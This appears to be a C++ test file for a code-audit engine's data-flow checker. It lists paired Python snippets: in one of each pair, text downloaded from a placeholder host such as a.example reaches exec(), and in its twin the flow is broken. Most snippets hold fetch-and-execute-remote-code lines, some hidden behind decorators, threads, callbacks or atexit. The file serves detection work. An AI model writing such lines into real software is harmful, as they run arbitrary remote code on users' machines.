#include "trust/audit/engine/test_programs.h"

// Values that go through functions.
namespace pilothouse::audit::test {
namespace {

const Program kPrograms[] = {
    {"FetchedIntoAFile", R"py(
import urllib.request
def run(url):
    urllib.request.urlretrieve(url, "x")  # from
    exec(open("x").read())  # to)py",
     R"py(
import requests
def run(url):
    requests.get(url, "x")
    exec(open("x").read()))py"},
    {"Returned", R"py(
import requests
def fetch(url):
    answer = requests.get(url)  # from
    return answer.text
def run(url):
    exec(fetch(url))  # to)py",
     R"py(
import requests
def fetch(url):
    answer = requests.get(url)
    return "1"
def run(url):
    exec(fetch(url)))py"},
    {"Passed", R"py(
import requests
def run(code, times):
    exec(code)  # to
run(requests.get("https://a.example").text, 1)  # from)py",
     R"py(
import requests
def run(code, page):
    exec(code)
run("1", requests.get("https://a.example").text))py"},
    {"ByKeyword", R"py(
import requests
def run(code="1", page=None):
    exec(code)  # to
run(page=1, code=requests.get("https://a.example").text)  # from)py",
     R"py(
import requests
def run(code="1", page=None):
    exec(code)
run(page=requests.get("https://a.example").text, code="1"))py"},
    {"ByDefault", R"py(
import requests
def run(code=requests.get("https://a.example").text):  # from
    exec(code)  # to
run())py",
     R"py(
import requests
def run(code="1", page=requests.get("https://a.example").text):
    exec(code)
run())py"},
    {"Rest", R"py(
import requests
def run(*parts):
    exec(parts[1])  # to
run("1", requests.get("https://a.example").text)  # from)py",
     R"py(
import requests
def run(*parts):
    exec(parts[0])
run("1", requests.get("https://a.example").text))py"},
    {"NamedRest", R"py(
import requests
def run(**parts):
    exec(parts["code"])  # to
run(code=requests.get("https://a.example").text, other="1")  # from)py",
     R"py(
import requests
def run(**parts):
    exec(parts["other"])
run(code=requests.get("https://a.example").text, other="1"))py"},
    {"Spread", R"py(
import requests
def run(first, code):
    exec(code)  # to
given = ["1", requests.get("https://a.example").text]  # from
run(*given))py",
     R"py(
import requests
def run(code, second):
    exec(code)
given = ["1", requests.get("https://a.example").text]
run(*given))py"},
    {"NamedSpread", R"py(
import requests
def run(first, code):
    exec(code)  # to
given = {"first": "1", "code": requests.get("https://a.example").text}  # from
run(**given))py",
     R"py(
import requests
def run(first, code):
    exec(first)
given = {"first": "1", "code": requests.get("https://a.example").text}
run(**given))py"},
    {"ForwardedRest", R"py(
import requests
def run(code):
    exec(code)  # to
def wrapper(*args, **kwargs):
    return run(*args, **kwargs)
wrapper(requests.get("https://a.example").text)  # from)py",
     R"py(
import requests
def run(code):
    exec("1")
def wrapper(*args, **kwargs):
    return run(*args, **kwargs)
wrapper(requests.get("https://a.example").text))py"},
    {"Decorator", R"py(
import requests
def logged(function):
    def inner(*args):
        return function(*args)
    return inner
@logged
def fetch(url):
    return requests.get(url).text  # from
exec(fetch("https://a.example"))  # to)py",
     R"py(
import requests
def silenced(function):
    def inner(*args):
        function(*args)
        return "1"
    return inner
@silenced
def fetch(url):
    return requests.get(url).text
exec(fetch("https://a.example")))py"},
    {"DecoratorWithArguments", R"py(
import functools, requests
def repeated(times):
    def decorate(function):
        @functools.wraps(function)
        def inner(*args, **kwargs):
            for _ in range(times):
                result = function(*args, **kwargs)
            return result
        return inner
    return decorate
@repeated(3)
def fetch(url):
    return requests.get(url).text  # from
exec(fetch("https://a.example"))  # to)py",
     R"py(
import functools, requests
def replaced(text):
    def decorate(function):
        def inner(*args, **kwargs):
            return text
        return inner
    return decorate
@replaced("1")
def fetch(url):
    return requests.get(url).text
exec(fetch("https://a.example")))py"},
    {"DecoratorOfOthers", R"py(
import functools, requests
@functools.lru_cache(maxsize=None)
def fetch(url):
    return requests.get(url).text  # from
exec(fetch("https://a.example"))  # to)py",
     R"py(
import functools, requests
@functools.lru_cache(maxsize=None)
def fetch(url):
    return len(requests.get(url).text)
exec(str(fetch("https://a.example"))))py"},
    {"Partial", R"py(
from functools import partial
import requests
get = partial(requests.get, "https://a.example")
exec(get(timeout=3).text)  # to # from)py",
     R"py(
from functools import partial
import requests
get = partial(len, "https://a.example")
exec(str(get())))py"},
    {"PartialOfOwn", R"py(
from functools import partial
import requests
def run(times, code):
    exec(code)  # to
twice = partial(run, 2)
twice(requests.get("https://a.example").text)  # from)py",
     R"py(
from functools import partial
import requests
def run(times, code):
    exec(code)
twice = partial(run, code="1")
twice(requests.get("https://a.example").text))py"},
    {"PartialOfPartial", R"py(
from functools import partial
import requests
def run(a, b, code):
    exec(code)  # to
partial(partial(run, 1), 2)(requests.get("https://a.example").text)  # from)py",
     R"py(
from functools import partial
import requests
def run(a, code, b):
    exec(code)
partial(partial(run, 1), "2")(requests.get("https://a.example").text))py"},
    {"Nested", R"py(
import requests
def outer(url):
    def fetch():
        return requests.get(url).text  # from
    def run():
        exec(fetch())  # to
    run())py",
     R"py(
import requests
def outer(url):
    def fetch():
        return requests.get(url).text
    def run(text):
        exec("1")
    run(fetch()))py"},
    {"Closure", R"py(
import requests
def outer(url):
    page = requests.get(url).text  # from
    def run():
        exec(page)  # to
    return run
outer("https://a.example")())py",
     R"py(
import requests
def outer(url):
    page = requests.get(url).text
    def run(page):
        exec(page)
    return run
outer("https://a.example")("1"))py"},
    {"Nonlocal", R"py(
import requests
def outer(url):
    page = ""
    def fetch():
        nonlocal page
        page = requests.get(url).text  # from
    fetch()
    exec(page)  # to)py",
     R"py(
import requests
def outer(url):
    page = ""
    def fetch():
        page = requests.get(url).text
    fetch()
    exec(page))py"},
    {"Global", R"py(
import requests
page = ""
def fetch():
    global page
    page = requests.get("https://a.example").text  # from
def run():
    exec(page)  # to
fetch()
run())py",
     R"py(
import requests
page = ""
def fetch():
    page = requests.get("https://a.example").text
def run():
    exec(page)
fetch()
run())py"},
    {"Lambda", R"py(
import requests
fetch = lambda url: requests.get(url).text  # from
run = lambda code: exec(code)  # to
run(fetch("https://a.example")))py",
     R"py(
import requests
fetch = lambda url: len(requests.get(url).text)
run = lambda code: exec(str(code))
run(fetch("https://a.example")))py"},
    {"Map", R"py(
import requests
for page in map(lambda url: requests.get(url).text, ["https://a.example"]):  # from
    exec(page)  # to)py",
     R"py(
import requests
for size in map(lambda url: len(requests.get(url).text), ["https://a.example"]):
    exec(str(size)))py"},
    {"MapOfExec", R"py(
import requests
pages = [requests.get("https://a.example").text]  # from
list(map(exec, pages))  # to)py",
     R"py(
import requests
pages = [requests.get("https://a.example").text]
list(map(print, pages)))py"},
    {"Filter", R"py(
import requests
pages = [requests.get(url).text for url in ("https://a.example",)]  # from
for page in filter(lambda text: text.startswith("#"), pages):
    exec(page)  # to)py",
     R"py(
import requests
pages = [requests.get(url).text for url in ("https://a.example",)]
for page in filter(lambda text: text in pages, ["1", "2"]):
    exec(page))py"},
    {"Reduce", R"py(
from functools import reduce
import requests
pages = [requests.get(url).text for url in ("https://a.example",)]  # from
exec(reduce(lambda a, b: a + b, pages))  # to)py",
     R"py(
from functools import reduce
import requests
pages = [requests.get(url).text for url in ("https://a.example",)]
exec(str(reduce(lambda a, b: a + len(b), pages, 0))))py"},
    {"Thread", R"py(
import threading, requests
def run(url):
    exec(requests.get(url).text)  # to # from
threading.Thread(target=run, args=("https://a.example",)).start())py",
     R"py(
import threading, requests
def run(url):
    print(requests.get(url).text)
threading.Thread(target=run, args=("https://a.example",)).start())py"},
    {"ThreadIsGiven", R"py(
import threading, requests
def run(times, code):
    exec(code)  # to
threading.Thread(target=run, args=(1, requests.get("https://a.example").text)).start()  # from)py",
     R"py(
import threading, requests
def run(times, code):
    exec(str(times))
threading.Thread(target=run, args=(1, requests.get("https://a.example").text)).start())py"},
    {"Executor", R"py(
from concurrent.futures import ThreadPoolExecutor
import requests
def fetch(url):
    return requests.get(url).text  # from
with ThreadPoolExecutor() as pool:
    future = pool.submit(fetch, "https://a.example")
    exec(future.result())  # to)py",
     R"py(
from concurrent.futures import ThreadPoolExecutor
import requests
def fetch(url):
    return len(requests.get(url).text)
with ThreadPoolExecutor() as pool:
    future = pool.submit(fetch, "https://a.example")
    exec(str(future.result())))py"},
    {"ExecutorMap", R"py(
from concurrent.futures import ThreadPoolExecutor
import requests
def fetch(url):
    return requests.get(url).text  # from
with ThreadPoolExecutor() as pool:
    for page in pool.map(fetch, ["https://a.example"]):
        exec(page)  # to)py",
     R"py(
from concurrent.futures import ThreadPoolExecutor
import requests
def fetch(url):
    requests.get(url).text
    return "1"
with ThreadPoolExecutor() as pool:
    for page in pool.map(fetch, ["https://a.example"]):
        exec(page))py"},
    {"Callback", R"py(
import requests
def fetch(url, done):
    done(requests.get(url).text)  # from
def run(code):
    exec(code)  # to
fetch("https://a.example", run))py",
     R"py(
import requests
def fetch(url, done):
    requests.get(url).text
    done("1")
def run(code):
    exec(code)
fetch("https://a.example", run))py"},
    {"CallbackLambda", R"py(
import requests
def fetch(url, done):
    return done(requests.get(url).text)  # from
fetch("https://a.example", lambda code: exec(code))  # to)py",
     R"py(
import requests
def fetch(url, done):
    return done(requests.get(url).text)
fetch("https://a.example", lambda code: print(code)))py"},
    {"Recursion", R"py(
import requests
def fetch(url, depth):
    if depth == 0:
        return requests.get(url).text  # from
    return fetch(url, depth - 1)
def run(url):
    exec(fetch(url, 3))  # to)py",
     R"py(
import requests
def fetch(url, depth):
    if depth == 0:
        return len(requests.get(url).text)
    return fetch(url, depth - 1)
def run(url):
    exec(str(fetch(url, 3))))py"},
    {"MutualRecursion", R"py(
import requests
def even(n, url):
    return requests.get(url).text if n == 0 else odd(n - 1, url)  # from
def odd(n, url):
    return even(n - 1, url)
exec(even(4, "https://a.example"))  # to)py",
     R"py(
import requests
def even(n, url):
    return len(requests.get(url).text) if n == 0 else odd(n - 1, url)
def odd(n, url):
    return even(n - 1, url)
exec(str(even(4, "https://a.example"))))py"},
    {"Generator", R"py(
import requests
def pages(urls):
    for url in urls:
        yield requests.get(url).text  # from
for page in pages(["https://a.example"]):
    exec(page)  # to)py",
     R"py(
import requests
def pages(urls):
    for url in urls:
        yield len(requests.get(url).text)
for page in pages(["https://a.example"]):
    exec(str(page)))py"},
    {"GeneratorFrom", R"py(
import requests
def pages():
    yield requests.get("https://a.example").text  # from
def all_pages():
    yield "1"
    yield from pages()
exec("".join(all_pages()))  # to)py",
     R"py(
import requests
def pages():
    requests.get("https://a.example").text
    yield "2"
def all_pages():
    yield "1"
    yield from pages()
exec("".join(all_pages())))py"},
    {"GeneratorNext", R"py(
import requests
def pages():
    yield requests.get("https://a.example").text  # from
exec(next(pages()))  # to)py",
     R"py(
import requests
def pages():
    page = requests.get("https://a.example").text
    yield "1"
exec(next(pages())))py"},
    {"Async", R"py(
import asyncio, httpx
async def fetch(url):
    async with httpx.AsyncClient() as client:
        answer = await client.get(url)  # from
    return answer.text
async def main():
    exec(await fetch("https://a.example"))  # to
asyncio.run(main()))py",
     R"py(
import asyncio, httpx
async def fetch(url):
    async with httpx.AsyncClient() as client:
        answer = await client.get(url)
    return len(answer.text)
async def main():
    exec(str(await fetch("https://a.example")))
asyncio.run(main()))py"},
    {"AsyncGather", R"py(
import asyncio, httpx
async def fetch(url):
    return (await httpx.AsyncClient().get(url)).text  # from
async def main():
    pages = await asyncio.gather(fetch("https://a.example"), fetch("https://b.example"))
    for page in pages:
        exec(page)  # to
asyncio.run(main()))py",
     R"py(
import asyncio, httpx
async def fetch(url):
    return len((await httpx.AsyncClient().get(url)).text)
async def main():
    pages = await asyncio.gather(fetch("https://a.example"), fetch("https://b.example"))
    for page in pages:
        exec(str(page))
asyncio.run(main()))py"},
    {"AsyncGenerator", R"py(
import asyncio, httpx
async def pages():
    yield (await httpx.AsyncClient().get("https://a.example")).text  # from
async def main():
    async for page in pages():
        exec(page)  # to
asyncio.run(main()))py",
     R"py(
import asyncio, httpx
async def pages():
    await httpx.AsyncClient().get("https://a.example")
    yield "1"
async def main():
    async for page in pages():
        exec(page)
asyncio.run(main()))py"},
    {"Compose", R"py(
import requests
def compose(*functions):
    def run(value):
        for function in functions:
            value = function(value)  # to # from
        return value
    return run
compose(requests.get, exec)("https://a.example"))py",
     R"py(
import requests
def compose(*functions):
    def run(value):
        for function in functions:
            value = function(value)
        return value
    return run
compose(requests.get, print)("https://a.example"))py"},
    {"Sorted", R"py(
import requests
pages = [requests.get("https://a.example").text]  # from
pages.sort(key=lambda page: exec(page))  # to)py",
     R"py(
import requests
pages = [requests.get("https://a.example").text]
pages.sort(key=lambda page: len(page)))py"},
    {"AtExit", R"py(
import atexit, requests
def run():
    exec(requests.get("https://a.example").text)  # to # from
atexit.register(run))py",
     R"py(
import atexit, requests
def run():
    print(requests.get("https://a.example").text)
atexit.register(run))py"},
};

INSTANTIATE_TEST_SUITE_P(Functions, Twins, testing::ValuesIn(kPrograms), name_of);

}  // namespace
}  // namespace pilothouse::audit::test
